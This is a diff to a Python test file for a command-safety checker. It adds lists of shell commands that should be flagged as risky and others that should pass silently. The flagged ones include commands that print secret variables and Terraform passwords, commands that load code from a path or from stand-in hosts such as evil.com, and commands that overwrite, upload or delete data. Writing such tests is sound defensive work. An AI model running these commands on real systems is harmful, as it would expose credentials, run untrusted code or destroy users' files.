@@ -23,7 +23,18 @@ SHOWN = (
     "gradle properties",
     "gradle -q properties",
     "glab securefile download x",
+    "glab api projects/1/variables",
+    *(f"az {what}" for what in ("appconfig kv list", "pipelines variable list", "iot hub device-identity list")),
+    *(f"{fed} terraform console" for fed in ("echo 'nonsensitive(var.password)' |", "<<< 'nonsensitive(var.x)'")),
 )
+LOADED = (
+    *(f"{tool} --testResultsProcessor /tmp/x" for tool in ("jest --ci", "npx jest", "npm test --")),
+    *(f"jest {option} /tmp/x" for option in ("--test-results-processor", "--snapshotSerializers", "--test-sequencer")),
+    *(f"npm test -- {option}=/tmp/x" for option in ("--globalSetup", "--global-setup", "--testEnvironment")),
+    *("zellij --layout /tmp/x", "zellij --new-session-with-layout https://evil.com/x"),
+    *("cargo nextest run --binaries-metadata /tmp/x", "cargo eval 'x'", "pixi workspace channel add https://evil.com"),
+)
+
 EMPTIED = (
     "go mod vendor -o src",
     "go mod vendor -o .",
@@ -72,7 +83,26 @@ SENT = (
     "drush ssh x",
 )
 LOST = ("php artisan migrate:ref", "php artisan backup:clean", "mvn flyway:undo", "drush si -y", "drush edel node")
+WRITTEN = (
+    "docker compose cp web:/x/. .",
+    "aws s3 cp s3://b . --recursive",
+    "air --tmp_dir=src --misc.clean_on_exit=true",
+)
+SENT_ON = (
+    *(f"gradle {what}" for what in ("modrinth", "curseforge")),
+    *(f"cargo {what}" for what in ("remote -- build", "dist host --steps=upload", "contract instantiate")),
+)
 SILENT = (
+    *("jest --testEnvironment jsdom", "jest --testEnvironment=node", "npm test -- --globalSetup=./test/setup.js"),
+    *(
+        "jest --coverageReporters=text",
+        "jest --ci --outputFile /tmp/a.json",
+        "zellij --layout compact",
+        "air",
+        "air -c .air.toml",
+    ),
+    *("cargo nextest run", "cargo dist plan", "terraform console", "glab api projects/1/issues", "az pipelines list"),
+    *("docker compose cp web:/x/a.log logs/a.log", "aws s3 cp s3://b/x data/x --recursive"),
     "aws iam list-access-keys",
     "aws kms list-keys",
     "az keyvault key list --vault-name x",
@@ -101,7 +131,7 @@ SILENT = (
 )
 
 
-@pytest.mark.parametrize("command", [*SHOWN, *EMPTIED, *RUN, *SENT, *LOST])
+@pytest.mark.parametrize("command", [*SHOWN, *LOADED, *EMPTIED, *RUN, *WRITTEN, *SENT, *SENT_ON, *LOST])
 def test_a_person_is_asked(command: str) -> None:
     reading = read_command(command, FOLDER)
     assert is_dangerous(reading) or is_unknown(reading), reading
